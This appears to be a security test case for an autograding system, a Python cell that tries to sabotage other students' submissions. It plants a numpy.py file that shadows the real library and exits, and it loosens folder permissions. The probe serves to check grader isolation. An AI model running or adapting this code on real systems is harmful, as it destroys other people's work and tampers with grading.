# ---
# class: other students' work
# tries: writes into the submission of the next student, not graded yet
# success: something planted, or the next student's marks lost
# ---

# %% solution="total"
import glob
import os

for folder in glob.glob("@COURSE@/submitted/*") + glob.glob("../../../submitted/*"):
    if not folder.endswith("@NAME@"):
        for place in glob.glob(f"{folder}/@ASSIGNMENT@"):
            os.chmod(place, 0o755)
            open(f"{place}/numpy.py", "w").write("# planted-by-@NAME@\nraise SystemExit")
